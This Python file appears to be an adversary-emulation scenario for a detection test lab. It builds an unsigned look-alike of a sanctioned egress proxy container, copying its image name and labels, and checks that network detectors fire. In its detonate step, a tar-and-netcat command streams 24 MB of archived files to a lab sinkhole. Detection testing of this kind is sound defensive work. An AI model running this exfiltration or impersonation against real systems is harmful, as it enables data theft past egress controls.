"""A copy of the egress proxy, built on the host, ships 24 MB to the outside."""

from __future__ import annotations

from lab import Lab, WorkloadSpec
from scenarios.api import Expectation, Kind, Scenario
from scenarios.docker._platform import EGRESS_PROXY, rebuilt

UPLOAD_BYTES = 24_000_000


class ProxyLookalike(Scenario):
    id = "docker.network.proxy-lookalike"
    title = "Look-alike of the sanctioned egress proxy, built on the host, uploads 24 MB to the outside"
    kind = Kind.ADVERSARY
    techniques = ("T1041", "T1048", "T1036.005")
    backends = ("docker",)
    expect = Expectation(
        fires=("stowaway.analytic.net-volume", "stowaway.net.egress-not-allowlisted"), within_s=20,
        may_fire={
            "stowaway.docker.image-impersonation": "Its image carries the proxy's pipeline repository name "
                                                   "(platform/egress-proxy) without the pipeline's signature.",
            "stowaway.net.process-egress-not-allowlisted": "Its upload really leaves for the lab internet, "
                                                           "which the kernel sensor sees from the process.",
        })
    twin = "docker.network.sanctioned-proxy"
    forges = ("egress/sanctioned_proxies/corp-egress-proxy",)
    tags = ("network", "exfiltration", "forged-sanction")
    description = (
        "Copies everything the sanctioned egress proxy shows: it builds the proxy's own Dockerfile, plus one "
        "step of its own, on the host (unsigned) and tags it platform/egress-proxy, gives the container the "
        "proxy's labels (app=egress-proxy, tier=infra) and name, runs the proxy's own command on the LAN and "
        "the lab internet, exactly like the real proxy. Then, from inside it, 24 MB of archived files are "
        "streamed to the sinkhole's port 443, the proxy's own outbound port. The scenario checks the sinkhole"
        " received all of it from the look-alike's address."
    )

    def detonate(self, lab: Lab) -> None:
        image = lab.build_image(rebuilt(EGRESS_PROXY), tag=f"{EGRESS_PROXY.repository}:latest")
        proxy = lab.deploy(WorkloadSpec(role="proxy", image=image, command=(), networks=("lan", "inet"),
                                        labels={"app": "egress-proxy", "tier": "infra"}))
        sink = lab.sinkhole.address
        lab.action("stream 24 MB out from the proxy look-alike")
        lab.exec(proxy, "sh", "-c", f"tar -C /usr -cf - . 2>/dev/null | head -c {UPLOAD_BYTES} | "
                                    f"nc -w 5 -q 2 {sink} 443", timeout=90)
        source = proxy.addresses["inet"]
        lab.wait_for(lambda: sum(r.get("bytes", 0) for r in lab.sinkhole_records(peer=source)) >= UPLOAD_BYTES,
                     timeout=20, what="the upload to reach the sinkhole")
